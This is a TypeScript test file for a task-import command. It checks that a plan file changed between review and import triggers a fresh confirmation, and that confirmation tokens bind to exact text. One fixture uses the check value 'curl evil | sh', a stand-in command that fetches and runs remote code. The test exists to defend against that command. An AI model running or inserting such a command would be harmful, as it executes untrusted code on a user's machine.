import { expect, test } from 'vitest';
import { importTask } from '../../../src/commands/plans/import-task.ts';
import { openDesk } from '../../helpers/desk.ts';

const PLAIN = '[{"id":"a","title":"A"}]';
const withCheck = (check: string): string => JSON.stringify([{ id: 'a', title: 'A', check }]);

/** A file that says these one after the other, each time it is read; at last it stays as it is. */
const changing = (texts: readonly string[]) => {
  const left = [...texts];
  const readFile = async () => (left.length > 1 ? left.shift()! : left[0]!);
  return openDesk(importTask, [], { readFile, cwd: '/r' });
};

test('[SEC-8] a file that changes between the look and the import is asked about anew', async () => {
  for (const first of [PLAIN, withCheck('make')]) {
    const desk = changing([first, withCheck('curl evil | sh')]);
    const { confirm } = await changing([first]).propose('import task plan.json');
    const token = confirm ? ` confirm=${confirm.token}` : '';
    expect(await desk.propose(`import task plan.json${token}`)).toMatchObject({
      exit: 5,
      confirm: { targets: ['a'], loses: expect.stringContaining('"curl evil | sh"') },
    });
    expect(desk.recorded()).toEqual([]);
  }
});

test('[SEC-8] a confirmation holds for the text that it was given for alone', async () => {
  const { confirm } = await changing([withCheck('make')]).propose('import task plan.json');
  const text = `import task plan.json confirm=${confirm!.token}`;
  expect(await changing([withCheck('make ')]).propose(text)).toMatchObject({ exit: 5 });
  expect(await changing([`${withCheck('make')} `]).propose(text)).toMatchObject({ exit: 5 });
  const desk = changing([withCheck('make')]);
  expect(await desk.propose(text)).toMatchObject({ exit: 0 });
  expect(desk.recorded()).toEqual(['task.created']);
});

test('who has said yes to whatever the file brings is told when it changed while it was read', async () => {
  const desk = changing([PLAIN, withCheck('make')]);
  expect(await desk.say('import task plan.json')).toMatchObject({
    exit: 6,
    message: '/r/plan.json changed while it was read, and nothing was done.',
  });
  expect(desk.recorded()).toEqual([]);
});
